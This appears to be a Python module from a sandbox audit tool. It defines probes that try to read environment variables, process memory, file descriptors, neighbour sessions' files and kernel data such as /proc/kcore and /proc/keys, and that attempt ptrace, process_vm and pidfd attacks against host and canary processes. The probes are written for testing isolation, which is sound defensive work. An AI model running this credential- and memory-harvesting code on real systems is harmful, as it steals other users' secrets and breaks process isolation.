"""Attacks on secrets: environments, other sessions' files and memory, the sandbox's own processes."""

from __future__ import annotations

from saccade.plugins.audit.attacks.attack import attacks

SECRETS = attacks(
    "secrets",
    r"""
== own_environment: find secrets in the environment
print(dict(os.environ), os.environb)
print(try_quietly(read, "/proc/self/environ", 100_000))
stack = ctypes.POINTER(ctypes.c_char_p).in_dll(_libc, "environ")
i = 0
while stack and stack[i]:
    print(stack[i]); i += 1
== environment_of_others: read the environment and command line of every process
for pid in ["1", str(os.getppid()), str(target["host_pid"]), *(try_quietly(os.listdir, "/proc") or [])]:
    if pid.isdigit() and int(pid) != os.getpid():
        text = try_quietly(read, "/proc/" + pid + "/environ", 100_000)
        if text:
            breach("environment of " + pid + ": " + repr(text[:200]))
== memory_of_others: read the memory of every process through /proc
for pid in ["1", str(os.getppid()), str(target["host_pid"]), *(try_quietly(os.listdir, "/proc") or [])]:
    if pid.isdigit() and int(pid) != os.getpid():
        for name in ("mem", "maps", "pagemap", "stack", "syscall", "auxv"):
            path = "/proc/" + pid + "/" + name
            try:
                with open(path, "rb") as f:
                    data = f.read(64) if name != "mem" else b""
                if name == "mem" or data.strip():
                    breach(path + " can be read")
            except OSError as error:
                print("stopped:", path, error)
== write_memory_of_others: write to the memory of the parent and of process 1
for pid in ("1", str(os.getppid()), str(target["host_pid"])):
    attempt("write " + pid, os.open, "/proc/" + pid + "/mem", os.O_RDWR)
== own_memory_leftovers: search the memory inherited from the zygote for secrets of the host
# The needle is not spelt here: it is the prefix of what the host calls its secrets.
needle = bytes(target["secret_prefix"], "ascii")[::-1]
found = set()
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, rights = line.split()[:2]
        start, end = (int(part, 16) for part in span.split("-"))
        if "r" not in rights or end - start > 1 << 28 or "[v" in line:
            continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except (OSError, OverflowError, ValueError):
            continue
        place = data.find(needle[::-1])
        while place >= 0 and len(found) < 100:
            found.add(data[place : place + 64])
            place = data.find(needle[::-1], place + 1)
print(found)
== files_of_other_sessions: find and read the neighbour's files by walking everything
seen = 0
for top in ("/", "..", "../..", "/workspace", "/workspaces", "/tmp", "/dev/shm", "/run", "/proc/1/cwd",
            "/proc/self/cwd/.."):
    for root, folders, names in os.walk(top, followlinks=False):
        if root.startswith(("/proc/", "/sys", "/usr", "/lib")) or "/site-packages" in root:
            folders[:] = []
            continue
        seen += 1
        if seen > 20_000:
            break
        if "neighbour.txt" in names:
            print(try_quietly(read, os.path.join(root, "neighbour.txt")))
            try_quietly(os.remove, os.path.join(root, "neighbour.txt"))
print("folders seen:", seen)
== list_sessions: list the folders of other sessions beside the own one
here = os.path.realpath(os.getcwd())
for place in {os.path.dirname(here), os.path.dirname(os.path.dirname(here)), "..", "../.."}:
    names = try_quietly(os.listdir, place)
    print(place, names)
    for name in names or ():
        inside = os.path.join(place, name)
        if os.path.realpath(inside) != here:
            text = try_quietly(read, os.path.join(inside, "neighbour.txt"))
            if text:
                print(text)
== guess_session_paths: guess the neighbour's workspace by counting its name up and down
import re
here = os.path.realpath(os.getcwd())
for match in re.finditer(r"\d+", here):
    for number in range(max(0, int(match[0]) - 50), int(match[0]) + 50):
        path = here[: match.start()] + str(number) + here[match.end() :]
        if path != here:
            try:
                print(read(path + "/neighbour.txt"))
            except OSError:
                pass
print("stopped: nothing found beside", here)
== descriptors_of_others: open other processes' files through /proc/*/fd, cwd, root and map_files
for pid in ["1", str(os.getppid()), str(target["host_pid"]), *(try_quietly(os.listdir, "/proc") or [])]:
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    for name in ("fd", "map_files", "cwd", "root", "task"):
        place = "/proc/" + pid + "/" + name
        names = try_quietly(os.listdir, place)
        if names and name != "task":
            breach(place + " can be listed: " + repr(names)[:100])
== read_all_descriptors, may lose its session: read everything that inherited descriptors give
import select
for fd in descriptors():
    try:
        mode = os.fstat(fd).st_mode
        print(fd, oct(mode), try_quietly(os.readlink, "/proc/self/fd/" + str(fd)))
        if stat.S_ISREG(mode):
            print(os.pread(fd, 4096, 0)[:500])
        elif stat.S_ISDIR(mode):
            names = os.listdir(fd)
            print(names)
            if "neighbour.txt" in names:
                breach("the neighbour's folder is open as descriptor " + str(fd))
        elif select.select([fd], [], [], 0)[0]:
            print(os.read(fd, 4096)[:500])
    except OSError as error:
        print("stopped:", fd, error)
== ptrace: trace the parent, process 1 and the host
for pid in (os.getppid(), 1, target["host_pid"], target["canary_pid"]):
    if pid > 0:
        attempt("attach " + str(pid), raw, "ptrace", 16, pid, 0, 0)
        attempt("seize " + str(pid), raw, "ptrace", 0x4206, pid, 0, 0)
attempt("traceme", raw, "ptrace", 0, 0, 0, 0)
== process_vm: read and write other processes' memory by system call
buffer = ctypes.create_string_buffer(64)
class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
local = Span(ctypes.addressof(buffer), 64)
for pid in (os.getppid(), 1, target["host_pid"], target["canary_pid"]):
    for name in ("process_vm_readv", "process_vm_writev"):
        attempt(name, raw, name, pid, ctypes.byref(local), 1, ctypes.byref(Span(id(None), 8)), 1, 0)
    attempt("kcmp", raw, "kcmp", pid, os.getpid(), 2, 0, 0)
== steal_descriptors: take descriptors out of other processes by pidfd
for pid in (os.getppid(), 1, target["host_pid"], target["canary_pid"]):
    pidfd = try_quietly(raw, "pidfd_open", pid, 0)
    if pidfd is not None:
        for fd in range(8):
            attempt("pidfd_getfd", raw, "pidfd_getfd", pidfd, fd, 0)
== mountinfo: learn the machine's layout from /proc and /sys
for path in ("/proc/self/mountinfo", "/proc/mounts", "/proc/cmdline", "/proc/net/tcp", "/proc/net/unix",
             "/proc/kallsyms", "/proc/modules", "/proc/keys", "/proc/sched_debug", "/proc/kcore", "/proc/1/mountinfo"):
    text = try_quietly(read, path, 200_000)
    if text and bytes(target["canary_folder"], "utf-8") in text:
        breach(path + " names the host's folders")
    if text and path in ("/proc/kcore", "/proc/keys"):
        breach(path + " can be read")
== shared_memory_leftovers: find shared memory of others by SysV id, message queues and /dev/shm
import ctypes
for name in try_quietly(os.listdir, "/dev/shm") or ():
    data = try_quietly(read, "/dev/shm/" + name)
    print(data)
attempt("segment of the host", raw, "shmget", target["sysv_key"], 0, 0)
for number in range(64):
    try:
        place = raw("shmat", number, 0, 4096)
    except OSError as error:
        last = error
    else:
        print(ctypes.string_at(place, 64))
""",
)
